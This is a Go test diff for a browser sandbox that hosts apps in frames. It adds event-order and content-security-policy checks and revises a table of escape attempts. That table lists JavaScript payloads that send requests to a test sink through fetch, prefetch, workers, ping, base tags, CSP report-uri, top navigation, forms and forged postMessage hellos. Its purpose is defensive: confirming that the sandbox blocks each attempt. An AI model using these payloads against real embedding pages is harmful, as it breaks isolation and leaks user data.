@@ -83,15 +83,17 @@ func appHeaders(t *testing.T) map[string]string {
 	return h
 }
 
-const richApp = `<!doctype html><html lang=en class=themed><head><title>Rich</title><style>p { color: rgb(1, 2, 3) }</style>
+const richApp = `<!doctype html><html lang=en class=themed onclick="order.push('html')"><head><title>Rich</title><meta http-equiv=" content-security-policy" content="default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'"><style>p { color: rgb(1, 2, 3) }</style>
 <script>globalThis.order = ["classic " + document.readyState]; addEventListener("load", () => order.push("load")); document.addEventListener("DOMContentLoaded", () => order.push("DOMContentLoaded"));</script>
 <script type="application/json" id=data>{"a": 1}</script></head>
-<body style="margin: 7px"><p id=p>text</p><i id=i style="width: 33px; display: block">x</i><button id=b onclick="order.push('clicked ' + event.type)">b</button><form id=f><input name=q value=v><button id=go>go</button></form>
+<body style="margin: 7px" onload="order.push('body loaded')" onresize="order.push('resized')"><a id=a href="https://a.invalid/" onclick="order.push('link'); return false">a</a><p id=p>text</p><i id=i style="width: 33px; display: block">x</i><button id=b onclick="order.push('clicked ' + event.type)">b</button><form id=f><input name=q value=v><button id=go>go</button></form>
 <script type=module>` + plainApp + `
 order.push("module " + document.readyState);
 await new Promise((r) => setTimeout(r));
 const $ = (id) => document.getElementById(id), css = (e) => getComputedStyle(e);
 $("b").click();
+$("a").click();
+dispatchEvent(new Event("resize"));
 $("f").addEventListener("submit", (e) => { e.preventDefault(); order.push("submitted") });
 $("go").click();
 const late = document.createElement("div");
@@ -133,7 +135,7 @@ func TestApp(t *testing.T) {
 		}
 		until.True(t, "the app has said everything", func() bool { return logs.has("no: …") || a.Err() != nil })
 		for _, want := range []string{
-			"classic loading, module interactive, DOMContentLoaded, load, clicked click, submitted",
+			"classic loading, module interactive, DOMContentLoaded, body loaded, load, clicked click, html, link, html, resized, html, submitted",
 			"rgb(1, 2, 3) 33px 55px 44px 7px 66px 1 themed Rich 1", "2026-01-26 dark logging,sandbox,serverTools",
 			`input {"city":"Berlin"}`, "result 7", "called moremap[n:2]", "ping {}", "no: this host has no sampling/createMessage",
 		} {
@@ -166,6 +168,26 @@ func TestAppBlocked(t *testing.T) {
 	})
 }
 
+// A policy that an app adds blocks its own scripts, and nobody else is blamed.
+func TestAppAddsPolicy(t *testing.T) {
+	skipInnermost(t)
+	testpage.Run(t, testpage.Page{Header: appHeaders(t)}, func(t *testing.T) {
+		a, logs := openApp(t, `<script>`+plainApp+`start().then(() => {
+	const m = document.createElement("meta"), s = document.createElement("script");
+	m.httpEquiv = "Content-Security-Policy";
+	m.content = "script-src 'none'";
+	document.head.append(m);
+	s.onerror = () => setTimeout(() => log("blocked"));
+	s.src = URL.createObjectURL(new Blob(["log('ran')"]));
+	document.head.append(s);
+})</script>`, AppOptions{})
+		until.True(t, "the script is blocked", func() bool { return logs.has("blocked") || logs.has("ran") || a.Err() != nil })
+		if !logs.has("blocked") || a.Err() != nil {
+			t.Errorf("%v, and the app said\n%s", a.Err(), logs)
+		}
+	})
+}
+
 func skipInnermost(t *testing.T) {
 	if testpage.Has(testpage.NoInnermostScript) {
 		t.Skip("WebKitGTK 2.50 starts no code in the innermost frame")
@@ -174,10 +196,12 @@ func skipInnermost(t *testing.T) {
 
 // framed are attacks by an app against its frames. One succeeds if it returns "ESCAPED", or if a request
 // reaches SINK/its number. alone is not tried with the defences off, because the test itself
-// would end, or a window would open in front of the tests' page, in which nothing is drawn then.
+// would end, or a window would open in front of the tests' page, in which nothing is drawn then. bare is
+// not tried either: no layer stands in its way, but a reader, or the browser itself.
 var framed = []struct {
 	name, code string
 	alone      bool
+	bare       bool
 }{
 	{name: "fetch", code: `await fetch(SINK)`},
 	{name: "fetch without CORS", code: `await fetch(SINK, {mode: "no-cors"})`},
@@ -202,14 +226,13 @@ var framed = []struct {
 	{name: "prefetch", code: `document.head.insertAdjacentHTML("beforeend", "<link rel=prefetch href='" + SINK + "'>")`},
 	{name: "preload", code: `document.head.insertAdjacentHTML("beforeend", "<link rel=preload as=image href='" + SINK + "'>")`},
 	{name: "worker", code: `new Worker(URL.createObjectURL(new Blob(["fetch('" + SINK + "', {mode: 'no-cors'})"])))`},
-	{name: "report", code: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri " + SINK + "\">"); new Image().src = "data:,"`},
-	{name: "policy of its own", code: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content='default-src *'>"); new Image().src = SINK`},
 	{name: "base", code: `const b = document.createElement("base"); b.href = SINK; document.head.append(b); await fetch("").catch(() => 0); b.remove()`},
-	{name: "ping", code: `document.body.insertAdjacentHTML("beforeend", "<a id=ping href='#x' ping='" + SINK + "'>x</a>"); document.getElementById("ping").click()`},
+	{name: "ping", code: `document.body.insertAdjacentHTML("beforeend", "<a id=ping href='#x' ping='" + SINK + "'>x</a>"); document.getElementById("ping").click()`, bare: true},
 	{name: "window", code: `const w = open(SINK); return w ? "ESCAPED" : ""`, alone: true},
 	{name: "form in a window", code: `document.body.insertAdjacentHTML("beforeend", "<form id=w target=_blank action='" + SINK + "'><input name=a></form>"); document.getElementById("w").submit()`, alone: true},
 	{name: "peers", code: `return globalThis.RTCPeerConnection ? "ESCAPED" : ""`, alone: true},
 	{name: "peers of a fresh frame", code: `const f = document.createElement("iframe"); document.body.append(f); try { return f.contentWindow.RTCPeerConnection ? "ESCAPED" : "" } catch (e) { return "" }`},
+	{name: "peers of a frame with code", code: `const f = document.createElement("iframe"), code = URL.createObjectURL(new Blob(["parent.postMessage('peers ' + typeof RTCPeerConnection, '*')"])); f.srcdoc = "<script src='" + code + "'><\/script>"; const heard = new Promise((ok) => addEventListener("message", (e) => { if (e.source === f.contentWindow) ok(e.data) })); document.body.append(f); return (await heard) === "peers function" ? "ESCAPED" : ""`},
 	{name: "code from a string", code: `return new Function("return 1")() ? "ESCAPED" : ""`},
 	{name: "eval", code: `return (0, eval)("1") ? "ESCAPED" : ""`},
 	{name: "timer with a string", code: `globalThis.ran = 0; setTimeout("ran = 1", 0); await new Promise((r) => setTimeout(r, 20)); return ran ? "ESCAPED" : ""`},
@@ -233,25 +256,28 @@ var framed = []struct {
 	{name: "the page's address", code: `top.location = SINK`, alone: true},
 	{name: "the address around", code: `parent.location = SINK`, alone: true},
 	{name: "a link to the top", code: `document.body.insertAdjacentHTML("beforeend", "<a id=top target=_top href='" + SINK + "'>x</a>"); document.getElementById("top").click()`, alone: true},
-	{name: "forged hello", code: `const c = new MessageChannel(); c.port1.onmessage = () => log("stolen ESCAPED"); top.postMessage("bailey-app", "*", [c.port2]); parent.postMessage("bailey-app", "*", [new MessageChannel().port2])`},
-	{name: "forged end", code: `top.postMessage("ended\x1fflood", "*"); top.postMessage({jsonrpc: "2.0", id: "x", method: "tools/call", params: {name: "t"}}, "*")`},
-	{name: "a cycle", code: `const o = {jsonrpc: "2.0", method: "x"}; o.o = o; parent.postMessage(o, "*")`},
-	{name: "odd values", code: `for (const v of [1n, new Map([[1, 2]]), new Date(), null, undefined, "text", 5, [1], new Blob(["x"]), new ArrayBuffer(9)]) parent.postMessage(v, "*")`},
-	{name: "polluted prototypes", code: `Object.prototype.polluted = 1; Array.prototype.toJSON = () => "x"; parent.postMessage({jsonrpc: "2.0", method: "notifications/message", params: {level: "info", data: "fine"}}, "*"); delete Object.prototype.polluted; delete Array.prototype.toJSON`},
-	{name: "a large message", code: `const id = ++n, big = new Promise((ok, no) => waits.set(id, [ok, no])); send({id, method: "ping", params: {a: "x".repeat(3 << 20)}}); await big`},
+	{name: "forged hello", code: `const c = new MessageChannel(); c.port1.onmessage = () => log("stolen ESCAPED"); top.postMessage("bailey-app", "*", [c.port2]); parent.postMessage("bailey-app", "*", [new MessageChannel().port2])`, bare: true},
+	{name: "forged end", code: `top.postMessage("ended\x1fflood", "*"); top.postMessage({jsonrpc: "2.0", id: "x", method: "tools/call", params: {name: "t"}}, "*")`, bare: true},
+	{name: "a cycle", code: `const o = {jsonrpc: "2.0", method: "x"}; o.o = o; parent.postMessage(o, "*")`, bare: true},
+	{name: "odd values", code: `for (const v of [1n, new Map([[1, 2]]), new Date(), null, undefined, "text", 5, [1], new Blob(["x"]), new ArrayBuffer(9)]) parent.postMessage(v, "*")`, bare: true},
+	{name: "polluted prototypes", code: `Object.prototype.polluted = 1; Array.prototype.toJSON = () => "x"; parent.postMessage({jsonrpc: "2.0", method: "notifications/message", params: {level: "info", data: "fine"}}, "*"); delete Object.prototype.polluted; delete Array.prototype.toJSON`, bare: true},
+	{name: "a large message", code: `const id = ++n, big = new Promise((ok, no) => waits.set(id, [ok, no])); send({id, method: "ping", params: {a: "x".repeat(3 << 20)}}); await big`, bare: true},
+	// These two stay in the document, so they are the last ones.
+	{name: "policy of its own", code: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content='default-src *'>"); new Image().src = SINK`},
+	{name: "report", code: `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri " + SINK + "\">"); new Image().src = "data:,"`, bare: true},
 }
 
 func framedApp(sink string, off bool) string {
 	var b strings.Builder
 	for i, a := range framed {
-		if !off || !a.alone {
+		if !off || !a.alone && !a.bare {
 			fmt.Fprintf(&b, "[%d, async (SINK) => { %s }],\n", i, a.code)
 		}
 	}
 	return `<body><script type=module>` + plainApp + `await start();
 for (const [i, f] of [` + b.String() + `]) {
 	let r = "";
-	try { r = await Promise.race([f("` + sink + `/" + i + "/"), new Promise((ok) => setTimeout(ok, 1000))]) } catch (e) {}
+	try { r = await Promise.race([f("` + sink + `/" + i + "/"), new Promise((ok) => setTimeout(ok, 3000))]) } catch (e) {}
 	log(i + " " + (r === "ESCAPED" ? r : ""));
 }
 await new Promise((r) => setTimeout(r, 300));
@@ -283,15 +309,30 @@ func TestAttackAppFrames(t *testing.T) {
 		if !logs.has("done") {
 			t.Errorf("the app ended with %v after\n%s", a.Err(), logs)
 		}
-		won := map[int]bool{}
-		for i, f := range framed {
-			won[i] = logs.has(fmt.Sprint(i, " ESCAPED")) || f.name == "forged hello" && logs.has("stolen ESCAPED") || f.name == "channel to the page" && calls.has("channel") || f.name == "forged end" && calls.has("t")
-		}
-		for _, r := range sink.Requests() {
-			at := 0
-			if _, err := fmt.Sscanf(strings.TrimPrefix(strings.Replace(r.URL, "ws", "http", 1), sink.URL), "/%d/", &at); err == nil {
-				won[at] = true
+		winners := func() map[int]bool {
+			won := map[int]bool{}
+			for i, f := range framed {
+				won[i] = logs.has(fmt.Sprint(i, " ESCAPED")) || f.name == "forged hello" && logs.has("stolen ESCAPED") || f.name == "channel to the page" && calls.has("channel") || f.name == "forged end" && calls.has("t")
 			}
+			for _, r := range sink.Requests() {
+				at := 0
+				if _, err := fmt.Sscanf(strings.TrimPrefix(strings.Replace(r.URL, "ws", "http", 1), sink.URL), "/%d/", &at); err == nil {
+					won[at] = true
+				}
+			}
+			return won
+		}
+		won := winners()
+		if len(layers) > 0 { // a request may still be on its way
+			until.True(t, "each attack succeeds with the layers off", func() bool {
+				won = winners()
+				for i, f := range framed {
+					if !won[i] && !f.alone && !f.bare {
+						return false
+					}
+				}
+				return true
+			})
 		}
 		if polluted, err := jsx.Lookup(jsx.Global(), "Object.prototype.polluted"); err == nil && !jsx.Nullish(polluted) {
 			t.Error("the page's prototypes are polluted")
@@ -302,11 +343,8 @@ func TestAttackAppFrames(t *testing.T) {
 	won, open := run(), run(frame.LayerPolicy, frame.LayerFrames)
 	for i, f := range framed {
 		count.Try(f.name, won[i])
-		if !f.alone {
+		if !f.alone && !f.bare {
 			count.Off(f.name, open[i])
-			if !open[i] {
-				t.Logf("with its layers off %s does not succeed either", f.name)
-			}
 		}
 	}
 	leavers := map[string]string{
@@ -378,7 +416,7 @@ await app.connect();
 </script>`
 	testpage.Run(t, testpage.Page{Header: appHeaders(t)}, func(t *testing.T) {
 		did := &appLogs{}
-		a, logs := openApp(t, html, AppOptions{Scheme: "light", off: appOff{hurry: true, state: true},
+		a, logs := openApp(t, html, AppOptions{Scheme: "light", off: appOff{hurry: true},
 			Ask: func(_ context.Context, kind, text string) bool {
 				did.add("", "ask "+kind+" "+text)
 				return kind == "message"
